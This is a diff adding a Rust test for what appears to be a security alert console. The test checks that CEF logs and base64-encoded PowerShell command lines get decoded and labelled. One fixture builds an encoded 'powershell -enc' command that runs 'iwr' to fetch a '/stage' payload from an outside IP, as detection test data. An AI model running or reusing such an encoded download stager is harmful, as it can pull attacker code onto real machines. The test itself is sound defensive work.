@@ -242,3 +242,35 @@ async fn wrapped_each_decoder_has_a_switch_and_unknown_switches_are_refused() {
         app.post("/v1/indicator-mappings", &app.admin_key, mapping("@cef", "raw_payload")).await;
     assert_eq!(status, 422, "{body}");
 }
+
+#[tokio::test]
+async fn wrapped_the_console_shows_the_decoder_in_the_dry_run_and_on_the_alert_page() {
+    let app = spawn_app().await;
+    let mut browser = crate::console::Browser::new(&app);
+    browser.sign_in(&app.admin_key).await;
+    let cef = json!({"title": "t", "raw": "CEF:0|Acme|FW|1|1|Blocked|5|src=198.51.100.7 suser=CORP\\\\ann"});
+    browser.get("/settings/mappings").await;
+    let page = browser
+        .post(
+            "/settings/mappings/test-extraction",
+            &[("source_name", "generic"), ("raw_payload", &serde_json::to_string(&cef).unwrap())],
+        )
+        .await;
+    assert_eq!(page.status, 200, "{}", page.body);
+    assert!(page.body.contains("<span class=\"indicator-decoder\">cef</span>"), "{}", page.body);
+
+    let command = "iwr http://203.0.113.9:8080/stage";
+    let uuid = ingest_as(
+        &app,
+        "generic",
+        json!({"title": "Encoded", "command_line": format!("powershell -enc {}", utf16_base64(command))}),
+    )
+    .await;
+    let page = browser.get(&format!("/alerts/{uuid}")).await;
+    assert_eq!(page.status, 200);
+    assert!(
+        page.body.contains("decoded as <span class=\"indicator-decoder\">powershell-base64</span>"),
+        "{}",
+        page.body
+    );
+}
